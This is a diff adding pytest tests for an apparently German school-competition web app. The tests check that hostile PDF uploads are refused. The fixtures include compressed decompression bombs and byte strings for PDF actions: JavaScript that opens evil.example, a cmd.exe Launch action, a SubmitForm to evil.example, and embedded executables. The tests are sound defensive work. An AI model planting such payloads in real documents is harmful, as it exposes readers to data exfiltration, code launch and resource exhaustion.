@@ -17,7 +17,15 @@ from tests.factories import (
     make_pdf,
     make_project,
 )
-from tests.hostile.pdfs import bomb, lying_count, raw_pdf
+from tests.hostile.pdfs import (
+    bomb,
+    catalog_pdf,
+    double_bomb,
+    endstream_bomb,
+    lying_count,
+    objstm_pdf,
+    raw_pdf,
+)
 
 
 @pytest.fixture
@@ -68,6 +76,78 @@ def test_hostile_pdf_is_refused_with_a_clear_message(school_web, db, data, messa
     web, base = school_web
     html = upload(web, base, data).get_data(as_text=True)
     assert message in html
+    assert documents(db) == []
+
+
+BOMBS = {
+    "lone-cr": lambda size: bomb(size, eol=b"\r"),
+    "space-crlf": lambda size: bomb(size, eol=b" \r\n"),
+    "junk-before-eol": lambda size: bomb(size, eol=b" %junk\n"),  # pdf.js skips to the line end
+    "no-eol": lambda size: bomb(size, eol=b""),
+    "endstream-inside": endstream_bomb,
+    "flate-of-flate": double_bomb,
+}
+
+
+@pytest.mark.parametrize("make", BOMBS.values(), ids=BOMBS.keys())
+def test_bombs_behind_odd_stream_syntax_are_refused(school_web, db, make):
+    data = make(64 * 1024 * 1024)
+    assert len(data) < 100_000  # a small file: only what it unpacks to gives it away
+    html = upload(school_web[0], school_web[1], data).get_data(as_text=True)
+    assert "entpackt sich auf über 8 MB" in html
+    assert documents(db) == []
+
+
+JS = b"<< /S /JavaScript /JS (app.launchURL('http://evil.example/');) >>"
+ACTIVE = {
+    "open-action-js": (catalog_pdf(b"/OpenAction 4 0 R", JS), "JavaScript"),
+    "escaped-name": (catalog_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
+                     "JavaScript"),
+    "names-tree-js": (catalog_pdf(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", JS),
+                      "JavaScript"),
+    "page-aa-js": (catalog_pdf(b"", JS, page_extra=b" /AA << /O 4 0 R >>"), "JavaScript"),
+    "js-in-object-stream": (objstm_pdf(JS), "JavaScript"),
+    "launch": (catalog_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "Programme starten"),
+    "submit-form": (catalog_pdf(b"/OpenAction << /S /SubmitForm /F (http://evil.example/) >>"),
+                    "Daten senden"),
+    "embedded-file": (catalog_pdf(b"/Names << /EmbeddedFiles << /Names [(polyglot.html) 4 0 R] >> >>",
+                                  b"<< /Type /Filespec /F (polyglot.html) /EF << /F 5 0 R >> >>",
+                                  b"<< /Type /EmbeddedFile /Length 4 >>\nstream\n<h1>\nendstream"),
+                      "eingebettete Dateien"),
+    "file-attachment": (catalog_pdf(b"", b"[<< /Type /Annot /Subtype /FileAttachment "
+                                         b"/Rect [0 0 9 9] /FS (x.exe) >>]",
+                                    page_extra=b" /Annots 4 0 R"), "eingebettete Dateien"),
+    "xfa": (catalog_pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"(<xdp/>)"), "XFA"),
+}
+
+
+@pytest.mark.parametrize("data,what", ACTIVE.values(), ids=ACTIVE.keys())
+def test_pdfs_that_act_on_their_own_are_refused(school_web, db, data, what):
+    html = upload(school_web[0], school_web[1], data).get_data(as_text=True)
+    assert "zum Schutz der Jury nicht angenommen" in html and what in html
+    assert "Drucken als PDF" in html  # the teacher learns how to make an acceptable file
+    assert documents(db) == []
+
+
+def test_links_bookmarks_and_an_opening_view_are_no_active_content(school_web, db):
+    data = catalog_pdf(b"/OpenAction [3 0 R /Fit] /Outlines 4 0 R /Info 6 0 R",
+                       b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
+                       b"<< /Title (Kapitel 3: HTML/JavaScript und /JS) /Parent 4 0 R /Dest [3 0 R /Fit] >>",
+                       b"<< /Title (Node/JS im Unterricht) >>",
+                       b"[<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
+                       b"/A << /S /URI /URI (https://www.jugend-forscht.de/) >> >>]",
+                       page_extra=b" /Annots 7 0 R")
+    assert "1 Seite" in upload(school_web[0], school_web[1], data).get_data(as_text=True)
+    assert len(documents(db)) == 1
+
+
+def test_a_pdf_of_too_many_objects_is_refused(school_web, db):
+    from compmgr.competitions.models import Competition
+
+    db.session.scalars(db.select(Competition)).one().paper_max_mb = 3  # 60,000 objects: 2.6 MB
+    data = catalog_pdf(b"", *[b"<<>>"] * 60_000)
+    html = upload(school_web[0], school_web[1], data).get_data(as_text=True)
+    assert "ungewöhnlich vielen Teilen" in html
     assert documents(db) == []
 
 
